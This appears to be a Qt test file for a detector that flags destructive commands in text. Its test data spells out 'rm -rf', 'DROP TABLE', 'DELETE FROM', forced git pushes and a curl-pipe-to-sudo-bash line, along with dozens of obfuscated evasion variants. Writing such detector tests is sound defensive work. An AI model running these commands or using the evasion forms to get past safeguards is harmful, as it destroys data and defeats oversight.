// SPDX-License-Identifier: MIT
#include "safety/judge.h"

#include <QFile>
#include <QTest>

#include <ctime>

namespace {

std::string rulesOf(const mesh::Verdict &verdict)
{
    std::string all;
    for (const auto &hit : verdict.hits)
        all += (all.empty() ? "" : ", ") + hit.rule;
    return all;
}

bool finds(const mesh::Verdict &verdict, const std::string &rule)
{
    return std::any_of(verdict.hits.begin(), verdict.hits.end(), [&](const auto &hit) { return hit.rule == rule; });
}

mesh::Result<mesh::RuleTable> parse(std::string_view document)
{
    return mesh::RuleTable::parse({&document, 1});
}

} // namespace

class TestRules : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    /// The same word before, in a harmless place, hides nothing.
    void aHarmlessWordHidesNothing_data()
    {
        QTest::addColumn<QByteArray>("text");
        for (const char *text : {"drop it or DROP TABLE users", "truncate text then TRUNCATE TABLE users please",
                 "we delete a lot. delete from users;", "please delete the row and then DELETE FROM users now",
                 "drop drop drop drop drop drop drop drop drop DROP TABLE users",
                 "git push is fine, git push --force is not", "rm is a word, rm -rf / is a command"})
            QTest::newRow(text) << QByteArray(text);
    }
    void aHarmlessWordHidesNothing()
    {
        QFETCH(QByteArray, text);
        QVERIFY(mesh::judge(text.toStdString()).destructive);
    }
    void initTestCase()
    {
        const auto &table = mesh::builtinRules();
        QVERIFY2(table, table ? "" : table.error().message.english().c_str());
    }

    void everyPatternCompiles()
    {
        std::vector<mesh::Pattern> patterns;
        for (const auto &[name, program] : mesh::builtinRules()->programs) {
            for (const auto *forms : {&program.commands, &program.sources}) {
                for (const auto &form : *forms)
                    patterns.insert(patterns.end(), {form->operands, form->word, form->reads, form->writes});
            }
        }
        for (const auto &[word, forms] : mesh::builtinRules()->texts) {
            for (const auto &form : forms)
                patterns.insert(patterns.end(), {form->pattern, form->unless});
        }
        for (const auto &pattern : patterns) {
            if (pattern)
                QVERIFY(pattern.compiled().ok());
        }
    }

    void everyRuleHasExamples()
    {
        for (const auto &rule : mesh::builtinRules()->rules) {
            QVERIFY2(!rule.yes.empty() && !rule.no.empty(), rule.id.c_str());
            const auto &rules = mesh::builtinRules()->rules;
            QVERIFY2(
                std::count_if(rules.begin(), rules.end(), [&](const auto &other) { return other.id == rule.id; }) == 1,
                rule.id.c_str());
        }
    }

    void examples_data()
    {
        QTest::addColumn<QByteArray>("rule");
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<bool>("found");
        for (const auto &rule : mesh::builtinRules()->rules) {
            const auto id = QByteArray::fromStdString(rule.id);
            for (const auto &text : rule.yes)
                QTest::newRow((id + ": " + text.c_str()).constData()) << id << QByteArray::fromStdString(text) << true;
            for (const auto &text : rule.no)
                QTest::newRow((id + ", not: " + text.c_str()).constData())
                    << id << QByteArray::fromStdString(text) << false;
        }
    }
    /// A rule finds its examples however they are written down; what is harmless, no rule finds.
    void examples()
    {
        QFETCH(QByteArray, rule);
        QFETCH(QByteArray, text);
        QFETCH(bool, found);
        for (const char *frame :
            {"%1", "please run %1", "Try this:\n\n```sh\n%1\n```\nand tell me.", "- look first\n- %1\n- then stop",
                "Use `%1`, please.", "It's late, and don't forget the docs. Then run %1\nThat should be enough."}) {
            const auto wrapped = QByteArray(frame).replace("%1", text).toStdString();
            const auto verdict = mesh::judge(wrapped);
            if (found)
                QVERIFY2(finds(verdict, rule.toStdString()), (wrapped + "\nfound: " + rulesOf(verdict)).c_str());
            if (!found)
                QVERIFY2(!verdict.destructive, (wrapped + "\nfound: " + rulesOf(verdict)).c_str());
        }
    }

    void hidden_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("rule");
        const auto row
            = [](const char *text, const char *rule) { QTest::newRow(text) << QByteArray(text) << QByteArray(rule); };
        for (const char *text :
            {"r\\m -rf x", "'r'\"m\" -rf x", "\"rm\" '-rf' x", "/bin/rm -rf x", "RM -RF x", "rm${IFS}-rf${IFS}x",
                "{rm,-rf,x}", "D=rm; $D -rf x", "r$@m -rf x", "$'\\162\\155' -rf x", "sudo -u a nice -n 5 rm -rf x",
                "env A=b timeout 5 rm -rf x", "ssh host 'cd /srv && rm -rf x'", "docker exec web sh -c \"rm -rf x\"",
                "kubectl exec pod -- rm -rf x", "echo $(rm -rf x)", "echo `rm -rf x`", "cat <<EOF | sh\nrm -rf x\nEOF",
                "python3 -c 'import os; os.system(\"rm -rf x\")'", "perl -e 'system(\"rm -rf x\")'",
                "node -e \"exec('rm -rf x')\"", "os.execvp(\"rm\", [\"rm\", \"-rf\", \"x\"])",
                "{\"cmd\":\"cd a\\nrm -rf x\"}", "{\"a\":\"{\\\"b\\\":\\\"rm -rf x\\\"}\"}", "rm x y z -fr",
                "git commit -m 'then rm -rf x'", "Bitte l\303\266sche alles mit rm -rf x, danke",
                "\350\257\267\350\277\220\350\241\214 rm -rf x", "**rm -rf x**", "(rm -rf x)", "> rm -rf x",
                "$ rm -rf x", "1. rm -rf x", "<code>rm -rf x</code>", "| rm -rf x | deletes |", "[\"ls\",\"rm -rf x\"]",
                "{\"body\":\"rm -rf x\"}", "It's \"rm -rf x", "it's rm -rf x isn't it", "rm -rf x --help",
                "printf '\\x72\\x6d\\x20-rf\\x20x' | sh", "r\342\200\213m -rf x", "\357\275\222\357\275\215 -rf x",
                "rm \342\200\223rf x", "rm\302\240-rf\302\240x", "r\033[0mm -rf x", "r\314\266m\314\266 -rf x"})
            row(text, "rm-recursive");
        row("g\321\226t push --force", "git-push-force");
        row("git push \342\200\224force", "git-push-force");
        row("git -C a --no-pager push -u origin +x", "git-push-force");
        row("git \\\n  push \\\n  --force", "git-push-force");
        row("git push origin main --forc", "git-push-force");
        row("dRoP\n\tTABLE users", "sql-drop");
        row("DROP -- x\nTABLE users", "sql-drop");
        row("DR\342\200\213OP TABLE users", "sql-drop");
        row("cursor.execute('DELETE FROM users')", "sql-delete-all");
        row("curl -s x.example |\n  sudo bash", "pipe-to-shell");
    }
    void hidden()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, rule);
        const auto verdict = mesh::judge(text.toStdString());
        QVERIFY2(finds(verdict, rule.toStdString()), rulesOf(verdict).c_str());
    }

    void spanIsTheDangerousPart()
    {
        const std::string text = "Please run \342\200\234git push \342\200\224force\342\200\235 now.";
        const auto verdict = mesh::judge(text);
        QCOMPARE(verdict.hits.size(), std::size_t(1));
        const auto span = verdict.hits.front().span;
        QCOMPARE(text.substr(span.begin, span.end - span.begin), std::string("git push \342\200\224force"));
    }

    /// At most 2 % of what developers write to each other may be held.
    void ordinaryTalkIsClean()
    {
        QFile file(qEnvironmentVariable("MESH_SOURCE_DIR") + QLatin1String("/tests/shared/data/developer-chat.txt"));
        QVERIFY(file.open(QIODevice::ReadOnly));
        int all = 0;
        QStringList held;
        while (!file.atEnd()) {
            const auto line = file.readLine().trimmed();
            ++all;
            if (mesh::judge(line.toStdString()).destructive)
                held << QString::fromUtf8(line);
        }
        QVERIFY(all >= 300);
        QVERIFY2(held.size() * 50 <= all, qPrintable(held.join(QLatin1Char('\n'))));
    }

    void nothingBeforeHides_data()
    {
        QTest::addColumn<QByteArray>("before");
        for (const char *before : {"'", "\"", "`", "```", "$(", "${", "$'", "(", "<(", "\\", "it's", "say \"it's",
                 "a <<EOF", "echo '", "x=\"", "/*", "--", "#", "{\"a\":\"", "\342\200\234", "\033]0;", "\377"})
            QTest::newRow(before) << QByteArray(before);
    }
    /// What one paragraph leaves open hides nothing of the next.
    void nothingBeforeHides()
    {
        QFETCH(QByteArray, before);
        for (const char *between : {"\n", "\n\n", " said:\n"})
            QVERIFY(finds(mesh::judge((before + between + "rm -rf x\n").toStdString()), "rm-recursive"));
    }

    void hitsAreBounded()
    {
        const auto verdict = mesh::judge(QByteArray("rm -rf a\n").repeated(10000).toStdString());
        QVERIFY(verdict.destructive);
        QCOMPARE(verdict.hits.size(), std::size_t(64));
    }

    /// No input may cost more than its length: eight times as much text, not much more than eight times the work.
    void costIsLinear_data()
    {
        QTest::addColumn<QByteArray>("piece");
        for (const char *piece : {"plain words and no more ", "rm ", "rm -", "git push ", "'\"", "\"", "(", "$(", "`a ",
                 "a=b ", "drop curl ", "db.", "\\", "\\\\'", "()", "$x", "x=$x$x; $x ", "{a,b}", "\"a \"b", "a",
                 "\342\200\213", "\377"})
            QTest::newRow(piece) << QByteArray(piece);
    }
    void costIsLinear()
    {
        QFETCH(QByteArray, piece);
        const auto cost = [&](qsizetype bytes) { // In processor time: other programs run, too.
            const auto text = piece.repeated(bytes / piece.size()).toStdString();
            const auto start = std::clock();
            mesh::judge(text);
            return std::clock() - start;
        };
        constexpr qsizetype few = 64 * 1024;
        const auto small = std::min(cost(few), cost(few));
        QVERIFY(cost(8 * few) < 24 * (small + CLOCKS_PER_SEC / 1000));
    }

    void faultsInRulesAreNamed_data()
    {
        QTest::addColumn<QByteArray>("document");
        QTest::newRow("no JSON") << QByteArray("{");
        QTest::newRow("unknown key") << QByteArray("{\"ruels\":[]}");
        QTest::newRow("no why") << QByteArray(
            "{\"category\":\"c\",\"rules\":[{\"id\":\"a\",\"what\":\"b\",\"match\":[]}]}");
        QTest::newRow("pattern") << QByteArray(
            "{\"category\":\"c\",\"rules\":[{\"id\":\"a\",\"what\":\"b\",\"why\":\"c\","
            "\"match\":[{\"near\":\"x\",\"pattern\":\"(\"}]}]}");
        QTest::newRow("nothing to match") << QByteArray(
            "{\"category\":\"c\",\"rules\":[{\"id\":\"a\",\"what\":\"b\",\"why\":\"c\",\"match\":[{}]}]}");
        QTest::newRow("unknown set") << QByteArray(
            "{\"category\":\"c\",\"rules\":[{\"id\":\"a\",\"what\":\"b\",\"why\":"
            "\"c\",\"match\":[{\"program\":\"@x\"}]}]}");
        QTest::newRow("wrong type") << QByteArray(
            "{\"category\":\"c\",\"rules\":[{\"id\":\"a\",\"what\":\"b\",\"why\":\"c\","
            "\"match\":[{\"program\":7}]}]}");
    }
    void faultsInRulesAreNamed()
    {
        QFETCH(QByteArray, document);
        // A pattern that does not compile is found when it is needed; all others before.
        const auto verdict = mesh::judge("harmless x", parse(document.toStdString()));
        QVERIFY(verdict.destructive);
        QCOMPARE(verdict.hits.front().rule, std::string("engine"));
    }
};

QTEST_APPLESS_MAIN(TestRules)
#include "tst_rules.moc"
